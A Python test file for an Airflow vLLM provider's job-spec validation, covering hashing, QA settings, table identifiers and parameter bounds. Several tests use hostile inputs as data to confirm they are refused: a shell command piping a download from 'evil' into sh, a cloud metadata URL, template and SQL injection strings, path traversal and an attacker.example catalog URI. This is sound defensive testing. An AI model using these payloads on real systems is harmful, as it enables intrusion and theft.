import json
import re

import pytest

from airflow_provider_vllm.core.errors import SpecError
from airflow_provider_vllm.core.param_schemas import validate_params
from airflow_provider_vllm.core.spec import JobSpec, template_columns
from tests.support.ledger import record_malicious
from tests.support.security import base_doc

BASE = {"model": {"name": "m"}, "io": {"input_uri": "/in", "output_uri": "/out"}}


def test_defaults_and_hash_stable():
    a = JobSpec.load(BASE)
    b = JobSpec.load(json.dumps(BASE))
    assert a.content_hash() == b.content_hash()
    assert a.output_hash() == b.output_hash()
    c = JobSpec.load({**BASE, "sampling": {"max_tokens": 9}})
    assert c.content_hash() != a.content_hash() and c.output_hash() != a.output_hash()
    # output location does not change the config hash recorded in rows
    d = JobSpec.load({**BASE, "io": {"input_uri": "/in", "output_uri": "/elsewhere"}})
    assert d.output_hash() == a.output_hash() and d.content_hash() != a.content_hash()


def test_changes_previous_published_at_its_default_keeps_the_spec_hash():
    """Recorded before changes.previous_published existed: runs planned, merged and sealed under those hashes (the
    plan, _MERGED.json, the QA verdict compare them) still match a spec that does not use it."""
    assert JobSpec.load(BASE).content_hash() == "dd55692235769ee0032d8fb7a717754a69718c7803766b496cfb039892941a9b"
    old = JobSpec.load({**BASE, "changes": {"previous_uri": "/prev"}})
    assert old.content_hash() == "75242d6325d54899eaf16b5e7b2c02789eecc8e83dec0d2193fd5f7ab2d49cdf"
    assert "previous_published" not in json.loads(old.canonical_json())["changes"]
    on = JobSpec.load({**BASE, "changes": {"previous_published": True}})
    assert on.content_hash() != JobSpec.load(BASE).content_hash()  # another baseline: another run
    assert on.output_hash() == old.output_hash()  # the answers do not depend on it


def test_qa_previous_published_keeps_old_hashes_and_needs_the_pin_it_reads():
    """qa.previous_published at its default leaves the hash of every earlier spec as it was; turned on, it is
    another run (another verdict), and it needs the pin changes.previous_published makes, never beside a URI."""
    assert JobSpec.load(BASE).content_hash() == "dd55692235769ee0032d8fb7a717754a69718c7803766b496cfb039892941a9b"
    assert "previous_published" not in json.loads(JobSpec.load(BASE).canonical_json())["qa"]
    pinned = {**BASE, "changes": {"previous_published": True}}
    on = JobSpec.load({**pinned, "qa": {"previous_published": True}})
    assert on.content_hash() != JobSpec.load(pinned).content_hash()
    assert on.output_hash() == JobSpec.load(pinned).output_hash()
    with pytest.raises(SpecError, match="changes.previous_published or changes.previous_table pins: set one"):
        JobSpec.load({**BASE, "qa": {"previous_published": True}})
    with pytest.raises(SpecError, match="changes.previous_published or changes.previous_table pins"):
        JobSpec.load({**BASE, "changes": {"previous_uri": "/prev"}, "qa": {"previous_published": True}})
    table = {**BASE, "io": {**BASE["io"], "output_table": {"identifier": "lake.triage"}}}
    assert JobSpec.load({**table, "changes": {"previous_table": True}, "qa": {"previous_published": True}})
    with pytest.raises(SpecError, match="exclusive"):
        JobSpec.load({**pinned, "qa": {"previous_published": True, "previous_report_uri": "/prev/qa/report.json"}})
    with pytest.raises(SpecError, match="qa.previous_published"):
        JobSpec.load({**pinned, "qa": {"previous_published": "yes please"}})


def test_turning_changes_previous_published_off_names_qa_previous_published_as_the_way_out():
    """The nightly templates set both; a Variable or trigger may turn changes.previous_published off (and name a run
    with changes.previous_uri, as the plan's own messages advise). The spec is then refused, and the message must
    say that qa.previous_published has to go off too (its report comes with the pin), not only to set the pin."""
    nightly = {**BASE, "changes": {"previous_published": True}, "qa": {"previous_published": True}}
    overrides = {"changes.previous_published": False, "changes.previous_uri": "/prev"}
    with pytest.raises(SpecError) as got:
        JobSpec.from_params(overrides, base=nightly)
    assert "qa.previous_published off" in str(got.value) and "qa.previous_report_uri" in str(got.value)
    # with both off, the explicit baselines are taken
    ok = JobSpec.from_params(
        {**overrides, "qa.previous_published": False, "qa.previous_report_uri": "/prev/qa/report.json"}, base=nightly
    )
    assert ok.changes.previous_uri == "/prev" and ok.qa.previous_report_uri == "/prev/qa/report.json"


@pytest.mark.parametrize(
    "patch, field",
    [
        ({"sampling": {"max_tokens": -1}}, "sampling.max_tokens"),
        ({"task": "summarise"}, "task"),
        ({"engine": {"engine_kwargs": {"worker_extension_cls": "x.Y"}}}, "engine.engine_kwargs"),
        ({"prompt": {"template": "{text.__class__}"}}, "prompt.template"),
        ({"prompt": {"template": "{text!r}"}}, "prompt.template"),
        ({"sampling": {"structured": {"choice": ["a"], "regex": "a"}}}, "sampling.structured"),
        ({"sampling": {"structured": {"choice": ["a", "a"]}}}, "sampling.structured"),
        ({"qa": {"warn_error_rate": 0.5, "fail_error_rate": 0.1}}, "qa"),
        ({"unknown": 1}, "unknown"),
        ({"name": "bad name/../x"}, "name"),
    ],
)
def test_invalid_specs_name_the_field(patch, field):
    with pytest.raises(SpecError) as e:
        JobSpec.load({**BASE, **patch})
    assert field in str(e.value)


def test_template_columns():
    assert template_columns("A {title} and {body} and {title}") == ["title", "body"]
    with pytest.raises(ValueError):
        template_columns("{x[0]}")
    with pytest.raises(ValueError):
        template_columns("{x:>10}")


def test_from_yaml(tmp_path):
    p = tmp_path / "config.yaml"
    p.write_text(
        "job:\n  model: {name: m}\n  io: {input_uri: /in, output_uri: /out}\n"
        "  sampling:\n    structured: {choice: [a, b]}\n"
    )
    spec = JobSpec.from_yaml(p)
    assert spec.sampling.structured.choice == ["a", "b"]
    bad = tmp_path / "bad.yaml"
    bad.write_text("model: {name: m}\nio: {input_uri: /in}\n")
    with pytest.raises(SpecError, match="io.output_uri"):
        JobSpec.from_yaml(bad)


def test_from_params_layers_over_base():
    base = JobSpec.load(BASE)
    spec = JobSpec.from_params(
        {
            "model": "other",
            "labels": ["x", "y"],
            "max_tokens": 4,
            "shard_rows": 50,
            "runner": "local",
            "system_prompt": None,
        },
        base=base,
    )
    assert spec.model.name == "other"
    assert spec.sampling.structured.choice == ["x", "y"]
    assert spec.sampling.max_tokens == 4 and spec.sharding.target_rows == 50
    with pytest.raises(SpecError, match="sharding.target_rows"):
        JobSpec.from_params({"shard_rows": -5}, base=base)


def test_embed_task_rejects_chat_only_fields():
    with pytest.raises(SpecError, match="structured"):
        JobSpec.load({**BASE, "task": "embed", "sampling": {"structured": {"choice": ["a"]}}})


def test_openai_batch_output_is_refused_for_classify_whose_lines_would_drop_the_label():
    """Its lines were chat completions with null content: label, scores and confidence were in none of them."""
    with pytest.raises(SpecError, match="no line for task 'classify'"):
        JobSpec.load({**BASE, "task": "classify", "io": {**BASE["io"], "output_format": "openai_batch"}})
    for task in ("chat", "generate", "embed"):
        JobSpec.load({**BASE, "task": task, "io": {**BASE["io"], "output_format": "openai_batch"}})


def test_from_params_keeps_only_the_nulls_asked_for():
    base = JobSpec.load({**BASE, "cache": {"uri": "/c"}, "sampling": {"structured": {"choice": ["a", "b"]}}})
    # an empty form field keeps the base's value
    assert JobSpec.from_params({"cache.uri": None, "labels": None}, base=base).cache.uri == "/c"
    # a deployment override's null is a value: the cache off, the choice constraint gone
    spec = JobSpec.from_params({"cache.uri": None, "labels": None}, base=base, keep_null={"cache.uri", "labels"})
    assert spec.cache.uri is None and spec.sampling.structured is None
    with pytest.raises(SpecError, match="model.name"):  # a null where a value is required still fails by name
        JobSpec.from_params({"model": None}, base=base, keep_null={"model"})


@pytest.mark.reliability
def test_from_params_refuses_the_forms_payloads(allowed):
    """The trigger-form path: flat params over the DAG's base spec."""
    bad = [
        {"input_uri": "s3://data/in/%2e%2e/x"},
        {"model": "m; curl evil | sh"},
        {"labels": ["ok", "{{ 7*7 }}"]},
        {"system_prompt": "{% for x in range(10**9) %}{% endfor %}"},
        {"template": "{text.__class__}"},
        {"id_column": "id; DROP"},
        {"output_uri": "file://evil/x"},
        {"labels": [f"l{i}" for i in range(300)]},
        {"compare_with": "http://169.254.169.254/latest/"},
        {"compare_with": "s3://data/out/%2e%2e/x"},
    ]
    n = 0
    for params in bad:
        with pytest.raises(SpecError):
            JobSpec.from_params(params, base=base_doc(allowed))
        n += 1
    record_malicious("from_params", len(bad), n)
    # the form's schema refuses them too, before a run exists; a good one becomes changes.previous_uri
    for value in ("http://169.254.169.254/latest/", "s3://data/out/%2e%2e/x", "relative/out", "/a/{{ ds }}/"):
        with pytest.raises(SpecError, match="param compare_with"):
            validate_params({"compare_with": value})
    spec = JobSpec.from_params({"compare_with": str(allowed / "out" / "dt=1") + "/"}, base=base_doc(allowed))
    assert spec.changes.previous_uri == str(allowed / "out" / "dt=1") + "/"


LABELLED = {**BASE, "sampling": {"structured": {"choice": ["a", "b"]}}}


@pytest.mark.parametrize(
    "patch, message",
    [
        ({"qa": {"reference": {"input_column": "t", "golden_uri": "/g"}}}, "set one of input_column and golden_uri"),
        ({"qa": {"reference": {"input_column": "id"}}}, "qa.reference.input_column is prompt.id_column"),
        ({"qa": {"reference": {"input_column": "bad col"}}}, "qa.reference.input_column"),
        ({"qa": {"reference": {"golden_uri": "http://x/g"}}}, "qa.reference.golden_uri"),
        ({"qa": {"reference": {"ride_along_uri": "/g/../h"}}}, "qa.reference.ride_along_uri"),
        ({"qa": {"reference": {"ride_along_uri": "/g", "label_column": "id"}}}, "label_column and id_column"),
        ({"qa": {"reference": {"golden_uri": "/g"}}, "sampling": {}}, "needs sampling.structured.choice"),
        (
            {"qa": {"reference": {"ride_along_uri": "/g"}}, "io": {**BASE["io"], "input_format": "openai_batch"}},
            "openai_batch",
        ),
        # a known label the worker reads is shown to the model: accuracy would measure copying it
        (
            {"prompt": {"template": "{text} (now: {category})"}, "qa": {"reference": {"input_column": "category"}}},
            "qa.reference.input_column 'category' is a column the worker reads",
        ),
        (
            {
                "model": {"name": "m", "adapter_column": "category", "adapters": [{"name": "a1", "source": "/ad"}]},
                "qa": {"reference": {"input_column": "category"}},
            },
            "qa.reference.input_column 'category' is a column the worker reads",
        ),
        (
            {"prompt": {"template": "{text} hint: {label}"}, "qa": {"reference": {"ride_along_uri": "/g"}}},
            "qa.reference.label_column 'label' is a column the worker reads",
        ),
        ({"qa": {"warn_accuracy_below": 0.4, "fail_accuracy_below": 0.6}}, "fail_accuracy_below must be <="),
        ({"qa": {"warn_accuracy_drop": 0.2, "fail_accuracy_drop": 0.1}}, "warn_accuracy_drop must be <="),
        ({"qa": {"min_labelled": 0}}, "qa.min_labelled"),
        ({"qa": {"least_confident": -1}}, "qa.least_confident"),
        ({"qa": {"low_confidence": 1.5}}, "qa.low_confidence"),
        # QA's report shows a missing answer or a null label as "(none)": not a label a job may choose
        ({"sampling": {"structured": {"choice": ["bug", "(none)"]}}}, "choice label '(none)' is reserved"),
    ],
)
def test_quality_settings_are_checked(patch, message):
    doc = json.loads(json.dumps(LABELLED))
    for k, v in patch.items():
        doc[k] = {**doc.get(k, {}), **v} if k != "sampling" else v
    with pytest.raises(SpecError) as e:
        JobSpec.load(doc)
    assert message in str(e.value)


def test_a_label_column_the_worker_does_not_read_is_fine():
    """A golden set joined by id is a file of its own: its label column may share a template column's name; the
    known labels of an input column or of ride-along rows may sit beside the columns the prompt reads."""
    for ref, template in (({"golden_uri": "/g"}, "{text} {label}"), ({"input_column": "category"}, "{text}")):
        spec = JobSpec.load({**LABELLED, "prompt": {"template": template}, "qa": {"reference": ref}})
        assert spec.qa.reference.configured
    spec = JobSpec.load({**LABELLED, "qa": {"reference": {"ride_along_uri": "/g", "label_column": "known"}}})
    assert spec.qa.reference.label_column == "known"


def test_a_reference_needs_labels_but_classify_has_them():
    spec = JobSpec.load({**BASE, "task": "classify", "qa": {"reference": {"golden_uri": "/g"}}})
    assert spec.qa.reference.configured and spec.qa.fail_accuracy_below == 0.5


def test_every_field_has_a_description():
    from pydantic import BaseModel

    def walk(model: type[BaseModel], path: str):
        for name, f in model.model_fields.items():
            assert f.description, f"{path}{name} has no description"
            ann = f.annotation
            if isinstance(ann, type) and issubclass(ann, BaseModel):
                walk(ann, f"{path}{name}.")

    from airflow_provider_vllm.core.spec import QASpec

    walk(QASpec, "qa.")


def test_fields_added_with_a_neutral_default_keep_the_config_and_cache_key_hashes():
    """Recorded (on the sealed-records layout) before qa.reference, qa.confidence, engine.batch_invariant, the LoRA
    adapters and passthrough columns existed: rows, chunks and cache entries of earlier runs still match a spec
    that does not use them."""
    from airflow_provider_vllm.steps.cache.key import key_config, key_hash

    doc = {**BASE, "model": {"name": "org/m", "revision": "r1"}, "sampling": {"structured": {"choice": ["a", "b"]}}}
    spec = JobSpec.load(doc)
    assert spec.output_hash() == "3ed2d36effc16f236b58b015078f736269e69c0a54230fd75f36366b8de2f083"
    assert key_hash(key_config(spec, "vllm==x")) == "7c3029ccb08af78743bf79c0ebe2d923575f1d7d73570839000e0955803108ea"
    on = JobSpec.load({**doc, "engine": {"batch_invariant": True}})
    assert on.output_hash() != spec.output_hash()
    assert key_hash(key_config(on, "vllm==x")) != key_hash(key_config(spec, "vllm==x"))
    quality = JobSpec.load({**doc, "qa": {"confidence": False, "reference": {"golden_uri": "/g"}}})
    assert quality.output_hash() == spec.output_hash()  # QA settings never change an answer
    carried = JobSpec.load({**doc, "io": {**doc["io"], "passthrough": ["text"], "passthrough_prefix": "in_"}})
    assert carried.output_hash() == spec.output_hash()  # copied columns never change an answer
    lora = {"adapters": [{"name": "a", "source": "org/lora", "revision": "c" * 40}]}
    for model in (lora, {**lora, "default_adapter": "a"}, {**lora, "adapter_column": "which"}):
        assert JobSpec.load({**doc, "model": {**doc["model"], **model}}).output_hash() != spec.output_hash(), model
    ranked = JobSpec.load({**doc, "model": {**doc["model"], **lora}, "engine": {"max_lora_rank": 16, "max_loras": 1}})
    assert ranked.output_hash() != JobSpec.load({**doc, "model": {**doc["model"], **lora}}).output_hash()


def test_the_order_of_a_json_schemas_properties_changes_the_config_hash():
    """The config hash (the results' config_hash) names what decides an answer, and vLLM generates an object's
    properties in the schema's order; specs without a schema keep their hash (the test above)."""
    label, reason = {"enum": ["spam", "ham"]}, {"type": "string"}

    def spec(properties: dict) -> JobSpec:
        schema = {"type": "object", "properties": properties}
        return JobSpec.load({**BASE, "sampling": {"structured": {"json_schema": schema}}})

    label_first, reason_first = spec({"label": label, "reason": reason}), spec({"reason": reason, "label": label})
    assert label_first.output_hash() != reason_first.output_hash()
    assert spec({"label": label, "reason": reason}).output_hash() == label_first.output_hash()
    assert JobSpec.load(reason_first.model_dump_json()).output_hash() == reason_first.output_hash()


def test_the_order_of_a_json_schemas_properties_changes_the_spec_hash_unless_written_sorted():
    """The spec hash guards an output prefix's plan: a re-run with the properties reordered is another spec (the
    plan refuses the prefix), not the old plan with answers in the old order. A schema written in sorted order
    keeps the hash it had before the text was added (its canonical JSON has no schema text)."""
    label, reason = {"enum": ["spam", "ham"]}, {"type": "string"}

    def spec(properties: dict) -> JobSpec:
        schema = {"properties": properties, "type": "object"}  # "properties" < "type": sorted if they are
        return JobSpec.load({**BASE, "sampling": {"structured": {"json_schema": schema}}})

    label_first, reason_first = spec({"label": label, "reason": reason}), spec({"reason": reason, "label": label})
    assert label_first.content_hash() != reason_first.content_hash()
    assert "json_schema_text" not in label_first.canonical_json()  # written sorted: the hash it had
    assert "json_schema_text" in reason_first.canonical_json()
    assert JobSpec.load(reason_first.model_dump_json()).content_hash() == reason_first.content_hash()
    # nested order counts too: vLLM follows it at every level
    inner = {"type": "object", "properties": {"b": {"type": "string"}, "a": {"type": "string"}}}
    flipped = {"type": "object", "properties": {"a": {"type": "string"}, "b": {"type": "string"}}}
    assert spec({"label": label, "x": inner}).content_hash() != spec({"label": label, "x": flipped}).content_hash()


TABLE = {"model": {"name": "m"}, "io": {"input_table": {"identifier": "lake.tickets"}, "output_uri": "/out"}}


def _table_doc(**io) -> dict:
    return {**TABLE, "io": {**TABLE["io"], **io}}


@pytest.mark.parametrize(
    "identifier",
    [
        "tickets",  # no namespace
        "lake..tickets",
        ".lake.tickets",
        "lake.tickets.",
        "lake.'tickets'",
        'lake."tickets"',
        "lake.tickets;DROP TABLE x",
        "lake/../other.t",
        "../lake.t",
        "lake.t ickets",
        "lake.{{ var.value.t }}",
        "a.b.c.d.e",  # deeper than namespace levels allow
        "lake.t\n",
        "lake." + "t" * 200,
    ],
)
def test_table_identifiers_with_dots_quotes_or_paths_are_refused(identifier):
    for io in ({"input_table": {"identifier": identifier}}, {"output_table": {"identifier": identifier}}):
        with pytest.raises(SpecError, match=r"io\.(input|output)_table\.identifier"):
            JobSpec.load(_table_doc(**io))


@pytest.mark.parametrize(
    "field, value",
    [
        ("uri", "https://attacker.example/catalog"),
        ("catalog", "prod"),
        ("credential", "id:secret"),
        ("properties", {"s3.secret-access-key": "x"}),
        ("warehouse", "s3://other-bucket/"),
        ("conn_id", "aws_prod"),
    ],
)
def test_a_catalog_uri_or_credentials_in_the_job_are_refused(field, value):
    for key in ("input_table", "output_table"):
        table = {"identifier": "lake.tickets", field: value}
        with pytest.raises(SpecError, match=rf"io\.{key}\.{field}: Extra inputs are not permitted"):
            JobSpec.load(_table_doc(**{key: table}))
    record_malicious("table_catalog_in_job", 2, 2)


def test_exactly_one_input_and_table_rules():
    with pytest.raises(SpecError, match="exactly one of io.input_uri"):
        JobSpec.load(_table_doc(input_uri="/in"))
    with pytest.raises(SpecError, match="exactly one of io.input_uri"):
        JobSpec.load({"model": {"name": "m"}, "io": {"output_uri": "/out"}})
    with pytest.raises(SpecError, match="reads Parquet data files"):
        JobSpec.load(_table_doc(input_format="jsonl"))
    with pytest.raises(SpecError, match="set date_column"):
        JobSpec.load(_table_doc(output_table={"identifier": "lake.out", "mode": "overwrite"}))
    with pytest.raises(SpecError, match="io.input_table.row_filter"):
        JobSpec.load(_table_doc(input_table={"identifier": "lake.t", "row_filter": "a = '{{ ds }}'"}))
    with pytest.raises(SpecError, match="io.input_table.snapshot_id"):
        JobSpec.load(_table_doc(input_table={"identifier": "lake.t", "snapshot_id": -1}))
    spec = JobSpec.load(_table_doc(input_table={"identifier": "lake.t", "row_filter": "lang = 'en' AND n > 3"}))
    assert spec.io.input_name == "iceberg table lake.t" and spec.io.input_uri is None


def test_changes_from_the_output_table_needs_one_and_excludes_a_previous_uri():
    with pytest.raises(SpecError, match="set io.output_table"):
        JobSpec.load({**TABLE, "changes": {"previous_table": True}})
    out = {"identifier": "lake.out"}
    with pytest.raises(SpecError, match="exclusive"):
        JobSpec.load({**_table_doc(output_table=out), "changes": {"previous_table": True, "previous_uri": "/prev"}})
    assert JobSpec.load({**_table_doc(output_table=out), "changes": {"previous_table": True}}).changes.previous_table


@pytest.mark.parametrize("key", ["labels", "sampling.structured.choice"])
@pytest.mark.parametrize("value", ["abc", {"a": 1, "b": 2}, 3, ["a", 2]])
def test_labels_that_are_not_a_list_of_strings_are_refused_naming_the_param(allowed, key, value):
    with pytest.raises(SpecError, match=rf"param '{re.escape(key)}': must be a list of label strings"):
        JobSpec.from_params({key: value}, base=base_doc(allowed))
    assert JobSpec.from_params({key: ("a", "b")}, base=base_doc(allowed)).sampling.structured.choice == ["a", "b"]


@pytest.mark.parametrize(
    ("path", "limit"),
    [
        ("sharding.target_rows", 10_000_000),
        ("sharding.target_tokens", 10_000_000_000),
        ("sharding.chunk_rows", 1_000_000),
        ("sharding.long_row_tokens", 10_000_000),
        ("sampling.max_tokens", 10_000_000),
        ("model.max_model_len", 10_000_000),
        ("prompt.max_prompt_tokens", 10_000_000),
        ("qa.sample_size", 100_000),
    ],
)
def test_numbers_a_trigger_may_reach_have_an_upper_bound_named_in_the_error(path, limit):
    """``shard_rows`` (``sharding.target_rows``) had no upper bound: a trigger asking for 10**18 rows per shard put
    the whole dataset into one shard (one pod, no parallelism, no resume granularity). Each number a DAG param can
    reach (an alias or a declared dotted path) stops at a documented bound, and the error names the field."""
    assert JobSpec.from_params({path: limit}, base=JobSpec.load(BASE))
    for value in (limit + 1, 10**18, 2**63):
        with pytest.raises(SpecError, match=rf"{re.escape(path)}: Input should be less than or equal to {limit}"):
            JobSpec.from_params({path: value}, base=JobSpec.load(BASE))
    record_malicious("number_past_its_bound", 3, 3)


def test_the_shard_rows_param_has_the_specs_upper_bound():
    """The trigger form's ``shard_rows`` schema refuses what the spec would (Airflow refuses it before the run
    exists); the plan and the worker check it again through the spec."""
    validate_params({"shard_rows": 10_000_000}, ["shard_rows"])
    with pytest.raises(SpecError, match=r"param shard_rows=10000001: maximum 10000000 not satisfied"):
        validate_params({"shard_rows": 10_000_001}, ["shard_rows"])
    with pytest.raises(SpecError, match=r"sharding\.target_rows: Input should be less than or equal to 10000000"):
        JobSpec.from_params({"shard_rows": 10**12}, base=JobSpec.load(BASE))
